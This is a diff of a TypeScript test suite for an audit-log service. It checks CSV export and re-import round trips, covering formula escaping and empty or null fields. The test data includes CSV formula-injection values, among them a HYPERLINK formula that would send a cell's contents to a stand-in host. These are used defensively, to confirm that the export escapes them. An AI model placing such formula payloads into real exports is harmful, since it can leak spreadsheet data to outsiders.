@@ -29,6 +29,23 @@ const dateDesc = { field: 'date', dir: 'desc' } as const;
 
 const everything = (filters: AuditFilters, sort: AuditSort = dateDesc, limit = 37): string[] => walkPages(service, filters, sort, limit);
 
+/** `events` imported (NDJSON) into a new cache, exported from it to CSV, and that CSV imported into another new cache. */
+async function csvRoundTrip(name: string, events: Record<string, unknown>[], check: (o: { src: AuditService; back: AuditService; text: string }) => void): Promise<void> {
+  const src = openService(join(tmp.dir, `${name}.db`));
+  const back = openService(join(tmp.dir, `${name}-back.db`));
+  try {
+    const file = join(tmp.dir, `${name}.ndjson`);
+    writeFileSync(file, events.map((e) => JSON.stringify(e)).join('\n') + '\n');
+    expect((await src.import([file]))[0]).toMatchObject({ accepted: events.length, rejected: 0 });
+    const out = await src.export({ format: 'csv', path: join(tmp.dir, `${name}.csv`), filters: {}, sort: { field: 'date', dir: 'asc' } });
+    expect((await back.import([out.path]))[0]).toMatchObject({ accepted: events.length, rejected: 0 });
+    check({ src, back, text: readFileSync(out.path, 'utf8') });
+  } finally {
+    await src.close();
+    await back.close();
+  }
+}
+
 describe('query: the API filters, offline', () => {
   it('takes an instant without a zone as UTC in every query, whatever zone the process runs in', () => {
     const before = process.env.TZ;
@@ -262,30 +279,59 @@ describe('export and the command handlers', () => {
   it('a value a spreadsheet would run as a formula (=, +, -, @, tab, CR first) is exported with a leading apostrophe, and the CSV imports back to the same events', async () => {
     const risky = ['=HYPERLINK("http://x.test/?"&A1,"open")', '+1+1', '-2+3', '@SUM(A1:A2)', '\tcmd', '\r=x', "'=already quoted", "'plain apostrophe", 'plain'];
     const events = risky.map((v, i) => makeEvent(900 + i, { category: v, action: { ...(makeEvent(900 + i).action as object), project_name: v, data: { note: v } } }));
-    const src = openService(join(tmp.dir, 'formulas.db'));
-    const back = openService(join(tmp.dir, 'formulas-back.db'));
-    try {
-      const file = join(tmp.dir, 'formulas.ndjson');
-      writeFileSync(file, events.map((e) => JSON.stringify(e)).join('\n') + '\n');
-      expect((await src.import([file]))[0]).toMatchObject({ accepted: risky.length, rejected: 0 });
-      const out = await src.export({ format: 'csv', path: join(tmp.dir, 'formulas.csv'), filters: {}, sort: { field: 'date', dir: 'asc' } });
-      const text = readFileSync(out.path, 'utf8');
+    await csvRoundTrip('formulas', events, ({ back, text }) => {
       // No cell of the file begins with a formula's first character (a quoted cell's content counted too).
       for (const cell of text.split(/,|\r\n/)) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
       expect(text).toContain(`'@SUM(A1:A2)`);
       expect(text).toContain(`''=already quoted`);
       expect(text).toContain(`,'plain apostrophe,`);
-      expect((await back.import([out.path]))[0]).toMatchObject({ accepted: risky.length, rejected: 0 });
       for (const e of events) {
         const got = back.event(e.event_id as string)!.event;
         expect(got.category).toBe(e.category);
         expect((got.action as Record<string, unknown>).project_name).toBe((e.action as Record<string, unknown>).project_name);
         expect((got.action as Record<string, unknown>).data).toEqual((e.action as Record<string, unknown>).data);
       }
-    } finally {
-      await src.close();
-      await back.close();
-    }
+    });
+  });
+
+  it('an empty text value exported to CSV imports back as an empty text value; null and missing fields come back missing', async () => {
+    const base = makeEvent(950);
+    const action = base.action as Record<string, unknown>;
+    const member = base.member as Record<string, unknown>;
+    const { folder_name: _noFolder, ...actionWithoutFolder } = action;
+    const events = [
+      // "" in every flattened text column, and in a JSON cell's payload.
+      makeEvent(950, {
+        category: '',
+        action: { ...action, verb: '', status: '', resource_id: '', request_id: '', correlation_id: '', project_name: '', folder_name: '', data: { note: '' }, context: {} },
+        member: { type: '', user_id: 3, email: '' },
+        source: { project: '', platform: '', referer: '' },
+      }),
+      // null in every nullable column.
+      makeEvent(951, {
+        category: null,
+        action: { ...action, resource_id: null, request_id: null, correlation_id: null, old_state: null, new_state: null, duration_ms: null, context: null, project_name: null, folder_name: null },
+        member: { ...member, user_id: null, email: null },
+        source: { project: null, platform: null, referer: null },
+      }),
+      // Fields left out, next to "" ones.
+      makeEvent(952, { action: { ...actionWithoutFolder, correlation_id: 'cor_9', project_name: '' }, source: { platform: 'web' } }),
+    ];
+    await csvRoundTrip('empty', events, ({ src, back, text }) => {
+      const [, first] = text.split('\r\n');
+      // Quoted empty cells for "", the JSON cell's "" inside its JSON text, as before.
+      expect(first).toBe(`evt_950,${base.date},"",${action.event_type},"","","","","",${action.duration_ms},"","","{""note"":""""}",`
+        + '"{""role"":""member""}","{""role"":""admin""}",{},"",3,"","","",""');
+
+      // "" comes back as "", everything else as it was.
+      expect(back.event('evt_950')!.event).toEqual(events[0]);
+      expect(back.event('evt_950')!.row).toEqual(src.event('evt_950')!.row);
+      expect(back.event('evt_952')!.event).toEqual(events[2]);
+      // CSV has one way to write "no value": null and a missing field are both an unquoted empty cell, and come back missing.
+      const { resource_id: _r, request_id: _q, correlation_id: _c, old_state: _o, new_state: _n, duration_ms: _d, context: _x, project_name: _p, folder_name: _f, ...nonNullAction } = events[1].action as Record<string, unknown>;
+      expect(back.event('evt_951')!.event).toEqual({ event_id: 'evt_951', date: events[1].date, action: nonNullAction, member: { type: 'user' } });
+      expect(back.event('evt_951')!.row).toEqual(src.event('evt_951')!.row);
+    });
   });
 
   it('validates requests with the contract and answers through the handlers', async () => {
